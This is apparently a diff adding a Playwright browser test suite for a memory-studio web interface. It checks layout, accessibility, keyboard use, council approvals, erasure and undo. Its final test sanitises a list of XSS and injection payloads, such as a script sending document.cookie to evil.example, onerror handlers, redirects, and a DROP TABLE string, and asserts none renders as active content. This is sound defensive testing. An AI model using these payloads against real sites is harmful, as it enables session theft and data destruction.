@@ -1,0 +1,267 @@
+"""The studio in a real browser: every page and flow, two widths, two colours, the keyboard."""
+
+import re
+from pathlib import Path
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
+from playwright.sync_api import Page, expect
+from tests.browser.conftest import Open, serving
+from tests.studios import opened
+
+from muniment.adapters.studio.studio import Studio
+from muniment.engine.agent import PART_SENTENCES
+
+Served = tuple[str, Studio]
+ADA = "main/agent/ada/actor"
+PAGES = {
+    "overview": "/",
+    "timeline": f"/log?stream={ADA}",
+    "entry": f"/entry?stream={ADA}&seq=4",
+    "lab": f"/lab?stream={ADA}&user=mira&q=Where+do+I+live",
+    "council": "/council",
+    "difference": f"/diff?stream={ADA}&from=3",
+    "privacy": "/privacy?user=mira",
+    "prove": "/prove",
+}
+WIDTHS = ((1440, False), (360, True))
+SERIOUS = {"serious", "critical"}
+
+
+def settled(page: Page) -> None:
+    """What the page fetches after its first paint has come."""
+    page.wait_for_load_state("networkidle")
+
+
+def accessible(page: Page) -> None:
+    found = Axe().run(page).response["violations"]
+    bad = [
+        f"{each['id']}: {each['nodes'][0]['html']}" for each in found if each["impact"] in SERIOUS
+    ]
+    assert not bad, bad
+
+
+@pytest.mark.parametrize(("width", "dark"), WIDTHS)
+@pytest.mark.parametrize("name", PAGES)
+def test_every_page_fits_the_screen_and_everybody_can_use_it(
+    looking: Served, come: Open, shots: Path, name: str, *, width: int, dark: bool
+) -> None:
+    home, _ = looking
+    page = come(home, width=width, dark=dark)
+    page.goto(home + PAGES[name])
+    settled(page)
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    accessible(page)
+    page.screenshot(path=shots / f"{name}-{width}.png")
+
+
+def test_the_overview_counts_layers_and_says_what_awaits(looking: Served, come: Open) -> None:
+    home, _ = looking
+    page = come(home)
+    settled(page)
+    expect(page.get_by_role("link", name="1 requests to decide")).to_be_visible()
+    expect(page.get_by_role("cell", name="episodes").first).to_be_visible()
+    assert page.locator(".chart canvas").count() >= 1
+
+
+def test_older_entries_come_without_leaving_the_page(looking: Served, come: Open) -> None:
+    home, _ = looking
+    page = come(home)
+    page.goto(f"{home}/log?stream={ADA}")
+    before = page.locator(".log tbody tr").count()
+    page.get_by_role("link", name="Show older entries").click()
+    expect(page.locator(".log tbody tr")).to_have_count(before + 50)
+    assert page.url.endswith(f"/log?stream={ADA}")
+
+
+def test_a_slider_goes_back_to_any_entry_and_every_link_stays_there(
+    looking: Served, come: Open
+) -> None:
+    home, _ = looking
+    page = come(home)
+    page.goto(f"{home}/log?stream={ADA}")
+    slider = page.locator("[data-slider]")
+    slider.focus()
+    slider.evaluate(
+        "(each) => { each.value = 12; each.dispatchEvent(new Event('change', {bubbles: true})) }"
+    )
+    page.wait_for_url(re.compile("at=12"))
+    expect(page.get_by_text("You stand at entry 12")).to_be_visible()
+    assert page.locator(".log tbody tr").count() == 12
+    page.get_by_role("link", name="Back to now").click()
+    expect(page.get_by_text("You stand at")).to_have_count(0)
+
+
+def test_from_an_entry_to_its_item_to_what_led_there(
+    looking: Served, come: Open, shots: Path
+) -> None:
+    home, _ = looking
+    page = come(home)
+    page.goto(f"{home}/log?stream={ADA}&text=Lisbon&kind=episodic_written")
+    page.locator("a.made").last.click()
+    expect(page.get_by_role("heading", name="Its trail")).to_be_visible()
+    accessible(page)
+    page.screenshot(path=shots / "item-1440.png")
+    node = page.locator("svg a").first
+    node.focus()
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile("/entry"))
+    expect(page.get_by_role("heading", name=re.compile("Entry"))).to_be_visible()
+
+
+def test_an_entry_opens_as_card_json_and_plain(looking: Served, come: Open) -> None:
+    home, _ = looking
+    page = come(home)
+    page.goto(f"{home}/entry?stream={ADA}&seq=4")
+    for view, word in (("json", '"header"'), ("plain", "header.seq: 4")):
+        page.get_by_role("link", name=view, exact=True).click()
+        expect(page.locator("pre")).to_contain_text(word)
+
+
+def test_two_members_approve_what_neither_could_alone(
+    deciding: Served, come: Open, shots: Path
+) -> None:
+    home, studio = deciding
+    grace = come(home, "grace")
+    grace.goto(f"{home}/council")
+    grace.get_by_role("link", name=re.compile("req:")).click()
+    accessible(grace)
+    grace.screenshot(path=shots / "request-1440.png")
+    grace.fill("#reason", "again")
+    grace.get_by_role("button", name="approve").click()
+    expect(grace.get_by_role("alert")).to_contain_text("REFUSED")  # her yes stands already
+    alan = come(home, "alan")
+    alan.goto(f"{home}/council")
+    alan.get_by_role("link", name=re.compile("req:")).click()
+    alan.get_by_role("button", name="approve").click()
+    expect(alan.locator(".badge").first).to_have_text(re.compile("executed|approved"))
+    facts = studio.memory.auditor().facts("user/profile/user_jonas")
+    assert [fact.value for fact in facts] == ["lapsang"]
+
+
+def test_everything_about_a_person_is_destroyed_and_the_receipt_stays(
+    deciding: Served, come: Open
+) -> None:
+    home, _ = deciding
+    grace = come(home, "grace")
+    grace.goto(f"{home}/privacy?user=mira")
+    grace.fill("#reason", "she asked for it")
+    grace.get_by_role("button", name="Ask for erasure").click()
+    where = grace.url
+    for name in ("alan", "ken", "dennis"):
+        member = come(home, name)
+        member.goto(where)
+        if not member.get_by_role("button", name="approve").count():
+            break
+        member.get_by_role("button", name="approve").click()
+    grace.goto(where)
+    grace.get_by_role("button", name="Destroy it now").click()
+    expect(grace.get_by_role("heading", name="Erasures")).to_be_visible()
+    assert grace.locator("table tbody tr").first.inner_text().startswith("req:")
+    grace.goto(f"{home}/privacy?user=mira")
+    expect(grace.get_by_text("Nothing is known about")).to_be_visible()
+    grace.goto(f"{home}/log?stream={ADA}&text=Lisbon")
+    assert "moved to Lisbon" not in grace.inner_text("main")
+
+
+def test_what_was_superseded_comes_back_by_undo(deciding: Served, come: Open) -> None:
+    home, studio = deciding
+    jonas = studio.memory.agent("ada", user="jonas")
+    talk = jonas.conversation(session="jonas-desk")
+    start = jonas.seq
+    talk.record(user="My timezone is Europe/Berlin", ai="Noted")
+    talk.record(user="Correction: my timezone is Europe/Lisbon", ai="Corrected")
+    page = come(home)
+    page.goto(f"{home}/diff?stream={ADA}&from={start}")
+    page.get_by_role("button", name="Undo").first.click()
+    page.wait_for_url(re.compile("/log"))
+    assert any("Berlin" in item.text for item in talk.items("profile"))
+
+
+def test_proving_shows_how_far_it_is_and_what_holds(looking: Served, come: Open) -> None:
+    home, _ = looking
+    page = come(home)
+    page.goto(f"{home}/prove")
+    page.get_by_role("button", name="Prove").click()
+    expect(page.get_by_text("Everything holds.")).to_be_visible(timeout=60_000)
+    expect(page.get_by_role("cell", name=ADA)).to_be_visible()
+    page.goto(f"{home}/")
+    expect(page.get_by_text(re.compile("verified up to entry")).first).to_be_visible()
+
+
+def test_the_whole_studio_by_keyboard_alone(looking: Served, come: Open) -> None:
+    home, _ = looking
+    page = come(home)
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")  # past the header, to the page
+    assert page.evaluate("location.hash") == "#main"
+    page.goto(f"{home}/")
+    visited = []
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        text = page.evaluate("document.activeElement.textContent.trim()")
+        visited.append(text)
+        if text == "Recall lab":
+            page.keyboard.press("Enter")
+            break
+    page.wait_for_url(re.compile("/lab"))
+    page.get_by_label("Question").focus()
+    page.keyboard.type("Where is Lisbon?")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile("q=Where"))
+    expect(page.get_by_role("heading", name="What a prompt gets").first).to_be_visible()
+
+
+ACTIVE = "main script, main iframe, main img, main style, main base, main meta"
+HOSTILE = (
+    "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(2)>',
+    "javascript:alert(3)",
+    "{{ 7*7 }} {% raw %}",
+    "<a href='https://evil.example'>click</a>",
+    "</textarea></pre></blockquote><iframe src=//evil.example>",
+    "<style>*{background:url(https://evil.example/x)}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "hx-get='https://evil.example' hx-trigger='load'",
+    "<div hx-get='https://evil.example' hx-trigger='load'>",
+    "\u202egnp.exe\u202c \u200b\u2066x\u2069",
+    "&lt;b&gt; &#x3c;script&#x3e;",
+    "<!--<script>--> ]]> <![CDATA[",
+    "'; DROP TABLE entries; --",
+    "\x1b[31mred\x1b[0m \x07",
+    "<template><script>alert(4)</script></template>",
+    "<form action=https://evil.example><button>Sign in</button></form>",
+    "<base href=https://evil.example/>",
+    "<math><mtext></p><style><img src=x onerror=alert(5)>",
+)
+
+
+def test_a_thousand_hostile_strings_are_text_and_nothing_leaves(tmp_path: Path, come: Open) -> None:
+    count = 1_000
+    with opened(tmp_path / "memory") as memory:
+        ada = memory.agent("ada", user="tuff")
+        ada.remember_many(f"{HOSTILE[n % len(HOSTILE)]} number {n}" for n in range(count))
+        for text in HOSTILE:
+            ada.remember(text)
+        ada.recall("script")
+    with serving(tmp_path / "memory") as (home, _):
+        page = come(home)
+        page.goto(f"{home}/diff?stream={ADA}&from=0")
+        settled(page)
+        assert page.locator(".what").count() >= 500  # a page shows at most so many changes
+        assert (
+            page.locator("main script, main iframe, main img, main style, main base").count() == 0
+        )
+        for path in (
+            f"/log?stream={ADA}",
+            f"/lab?stream={ADA}&user=tuff&q=script",
+            f"/log?stream={ADA}&text=%3Cscript%3E",
+            "/privacy?user=%3Cscript%3Ealert(1)%3C/script%3E",
+        ):
+            page.goto(home + path)
+            settled(page)
+            assert page.locator(ACTIVE).count() == 0
+        page.goto(f"{home}/entry?stream={ADA}&seq=4&view=plain")
+        shown = page.locator("pre").inner_text()
+        assert shown.count("<script>fetch") == PART_SENTENCES // len(HOSTILE)
